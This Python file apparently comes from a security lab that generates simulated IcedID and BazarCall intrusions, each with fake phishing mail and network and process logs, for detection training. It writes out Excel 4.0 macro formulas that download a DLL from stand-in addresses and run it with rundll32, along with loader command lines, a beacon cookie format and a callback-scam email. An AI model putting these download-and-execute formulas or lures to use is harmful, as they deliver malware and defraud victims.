"""IcedID out of a stolen thread (March 2021), and BazarCall's call centre (September 2021), with their network logs.

Source: public notes of 2021-03-15 (Unit 42) on IcedID with the requests, cookie and certificate of its packet capture,
and of 2021-09-08 (executemalware/Malware-IOCs) on BazarCall's order workbooks, as the project's mission reports them.
Addresses and names are replaced by reserved ones.
"""

from __future__ import annotations

from datetime import timedelta

from sekisho.app.lab.biff8 import write_xls
from sekisho.app.lab.case import Scene
from sekisho.app.lab.case_xlm import XLS, fragmented
from sekisho.app.lab.docs import write_xlsm
from sekisho.app.lab.endpoint import CONTEXT, STORY, SYSTEM_32, Process
from sekisho.app.lab.letters import colleague, partner, stolen_thread
from sekisho.app.lab.mail import Attachment, Mail, Relay
from sekisho.app.lab.noise import CHROME as BROWSER
from sekisho.app.lab.opening import office_open, remain, save, start_outlook, unzip
from sekisho.app.lab.sensors import TRIDENT, WIDGITS, Sensors, Server, ordinary_day
from sekisho.app.lab.zipcrypto import Packing, write_zip

SERIAL = "44270.7145450231"
STAGES = ("203.0.113.121", "203.0.113.122", "203.0.113.123")
LIBRARY, PAYLOAD = "SOT.GOT", "raise_x64.tmp"
CHECK = Server("aws.vendor.example", "198.51.100.220")
LOADER = ("fresh-kilo.example", "203.0.113.131")
COMMAND = Server("grey-lantern.example", "203.0.113.132", 443, WIDGITS, WIDGITS)
COMPENSATION = Relay("smtp.print.example", "203.0.113.70", "198.51.100.71", "DESKTOP-7Q1", spf="none", dmarc="none")
CALL = Relay("mail.freemail.example", "198.51.100.75", "198.51.100.76", "webmail", dkim="pass", dmarc="pass")
SITE, SITE_IP = "fan-tour.example", "203.0.113.141"
ORDER = "order_Jb104477213.xlsb"
BARE = "203.0.113.142"
BAZAR = Server("", "203.0.113.143", 443, "CN=localhost", "CN=localhost")
BEATS = 40


def cookie(host: str, user: str) -> str:
    """Give the cookie by which the loader says who asks."""
    return (
        "__gads=2811148672:1:1045:131; _gat=10.0.19042.64; _ga=5.198313.576.12; "
        f"_u={host.encode().hex().upper()}:{user.encode().hex().upper()}"
    )


def icedid(scene: Scene) -> None:
    """Tell icedid-thread."""
    scene.verdict = "malicious"
    scene.urls = tuple(f"http://{address}/{SERIAL}.dat" for address in STAGES)
    workbook = Attachment("CompensationClaim_605614143.xls", XLS, write_xls(*fragmented(_formulas(scene), scene.case)))
    packed = write_zip({workbook.name: workbook.data}, Packing(scene.at("08:50:00")))
    archive = Attachment("CompensationClaim_605614143_03152021.zip", "application/zip", packed)
    mail = stolen_thread(scene, archive, scene.at("09:05:20"), japanese=False, charset="us-ascii")
    scene.send(mail)
    scene.plant("thread_mail", mail)
    scene.open_from(mail, archive, workbook)
    sensors = _sensors(scene)
    excel = _open_archive(scene, archive, workbook)
    loader = _load(scene, sensors, excel)
    _report(scene, sensors, loader)


def _sensors(scene: Scene) -> Sensors:
    sensors = Sensors(scene.case)
    ordinary_day(sensors, scene.day)
    scene.logs += sensors.logs
    return sensors


def _formulas(scene: Scene) -> tuple[str, ...]:
    calls = [f'=CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"{url}","..\\{LIBRARY}",0,0)' for url in scene.urls]
    return (*calls, f'=EXEC("rundll32 ..\\{LIBRARY},DllRegisterServer")', "=RETURN()")


def _open_archive(scene: Scene, archive: Attachment, workbook: Attachment) -> Process:
    at, machine = scene.at, scene.machine
    outlook = start_outlook(scene, at("09:29:30"))
    machine.key = "opened"
    save(scene, outlook, archive, at("09:31:02.300"))
    _, path = unzip(scene, archive, workbook, at("09:31:09.100"))
    return office_open(scene, "EXCEL.EXE", path, at("09:31:10.050"), machine.explorer)


def _load(scene: Scene, sensors: Sensors, excel: Process) -> Process:
    """Have the macro try its three addresses, of which the last answers, and start what came."""
    at, machine = scene.at, scene.machine
    machine.key = "download"
    for number, (url, address) in enumerate(zip(scene.urls, STAGES, strict=True)):
        asked_at = at(f"09:31:4{1 + 2 * number}.100")
        status = 200 if number == 2 else 404
        sensors.fetch(asked_at, scene.desk, url, TRIDENT, address=address, status=status, key="download")
        scene.reach(excel, address, 80, asked_at, url=url)
    scene.drop(excel, f"{scene.desk.home}\\{LIBRARY}", at("09:31:46.700"))
    machine.key = "loader"
    image = f"{SYSTEM_32}rundll32.exe"
    return scene.start(image, f"rundll32 ..\\{LIBRARY},DllRegisterServer", at("09:31:47.200"), excel)


def _report(scene: Scene, sensors: Sensors, loader: Process) -> None:
    """Have the loader look whether it is on line, say who asks, fetch its payload and call again and again."""
    at, machine = scene.at, scene.machine
    name, address = LOADER
    sensors.speak(at("09:31:52.000"), scene.desk, CHECK)
    scene.reach(loader, CHECK.address, 443, at("09:31:52.000"), CHECK.name)
    machine.key = "announced"
    sensors.lookup(at("09:31:54.900"), scene.desk, name, address, key="announced")
    who = cookie(scene.desk.host, scene.desk.user)
    url = f"http://{name}/"
    sensors.fetch(at("09:31:55.000"), scene.desk, url, "", address=address, cookie=who, size=394_000, key="announced")
    scene.reach(loader, address, 80, at("09:31:55.000"), name)
    machine.key = "payload"
    folder = f"{scene.desk.home}\\AppData\\Local\\Temp"
    scene.drop(loader, f"{folder}\\{PAYLOAD}", at("09:31:57.300"))
    scene.drop(loader, f"{scene.desk.home}\\AppData\\Roaming\\SpringGoat\\license.dat", at("09:31:57.500"))
    image = f"{SYSTEM_32}rundll32.exe"
    command = f'{image} "{folder}\\{PAYLOAD}",update /i:"SpringGoat\\license.dat"'
    payload = scene.start(image, command, at("09:31:58.000"), loader)
    remain(scene, payload, f"{folder}\\{PAYLOAD}", command, at("09:32:01.500"))
    machine.key = "command"
    scene.reach(payload, COMMAND.address, 443, at("09:32:10.000"), COMMAND.name)
    machine.key = ""
    sensors.lookup(at("09:32:09.900"), scene.desk, COMMAND.name, COMMAND.address, key="command")
    for beat in range(BEATS):
        sensors.speak(at("09:32:10.000") + timedelta(minutes=5 * beat), scene.desk, COMMAND, size=300, key="command")


def bazarcall(scene: Scene) -> None:
    """Tell bazarcall."""
    scene.verdict = "malicious"
    scene.urls = (f"http://{SITE}/{ORDER}", f"http://{BARE}/8t/lnmuip.dll")
    mail = _charge(scene)
    scene.send(mail)
    scene.plant("callback_mail", mail)
    scene.open_from(mail)
    sensors = _sensors(scene)
    at, machine = scene.at, scene.machine
    machine.part = CONTEXT
    browser = machine.start(BROWSER, f'"{BROWSER}"', at("10:02:00"), machine.explorer)
    machine.part = STORY
    machine.key = "workbook"
    sensors.lookup(at("10:03:09.800"), scene.desk, SITE, SITE_IP)
    sensors.fetch(at("10:03:10.000"), scene.desk, scene.urls[0], address=SITE_IP, size=71_000, key="workbook")
    path = f"{scene.desk.home}\\Downloads\\{ORDER}"
    scene.drop(browser, path, at("10:03:11.000"))
    machine.key = "opened"
    excel = office_open(scene, "EXCEL.EXE", path, at("10:03:30.000"), machine.explorer)
    machine.key = "download"
    sensors.fetch(at("10:04:02.000"), scene.desk, scene.urls[1], TRIDENT, address=BARE, size=420_000, key="download")
    scene.reach(excel, BARE, 80, at("10:04:02.000"), url=scene.urls[1])
    library = "C:\\Users\\Public\\lnmuip.dll"
    scene.drop(excel, library, at("10:04:04.000"))
    machine.key = "loader"
    image = f"{SYSTEM_32}rundll32.exe"
    loader = scene.start(image, f"rundll32.exe {library},StartW", at("10:04:05.000"), excel)
    machine.key = "command"
    scene.reach(loader, BAZAR.address, 443, at("10:04:20.000"))
    machine.key = ""
    for beat in range(BEATS):
        sensors.speak(at("10:04:20.000") + timedelta(minutes=4 * beat), scene.desk, BAZAR, size=300, key="command")


def _charge(scene: Scene) -> Mail:
    return Mail(
        case=scene.case,
        key="charge",
        sender_name="Tour Membership",
        sender="12814.billing@freemail.example",
        to=(scene.desk.mailbox,),
        subject="Thank you for your free trial",
        text="Dear customer,\n\nYour free trial period is about to end. Your card will be charged $89.99 today for the "
        "premium plan.\nYour subscription number: JB104477213\n\nTo cancel the subscription, call our support at "
        "+1 (555) 010-0149 within 24 hours and tell the operator your number.\n\nTour Membership support\n",
        sent_at=scene.at("09:15:40"),
        relay=CALL,
        charset="us-ascii",
    )


def benign(scene: Scene) -> None:
    """Tell icedid-bazarcall-benign: a partner's workbook, a colleague's archive, and the network's ordinary day."""
    rows: list[list[str | float]] = [["品目", "数量"], ["用紙", 12.0], ["インク", 4.0]]
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    attachment = Attachment("見積書.xlsx", sheet, write_xlsm(rows))
    mail = partner(scene, attachment, scene.at("09:05:20"))
    scene.send(mail)
    scene.open_from(mail, attachment)
    packed = write_zip({"資料.txt": "一、予算\n二、日程\n".encode("cp932")}, Packing(scene.at("08:50:00")))
    archive = Attachment("資料.zip", "application/zip", packed)
    scene.post(colleague(scene, archive, scene.at("09:20:00")))
    _sensors(scene)
    outlook = start_outlook(scene, scene.at("09:29:30"))
    path = save(scene, outlook, attachment, scene.at("09:31:02.300"))
    office_open(scene, "EXCEL.EXE", path, scene.at("09:31:03.050"), outlook)
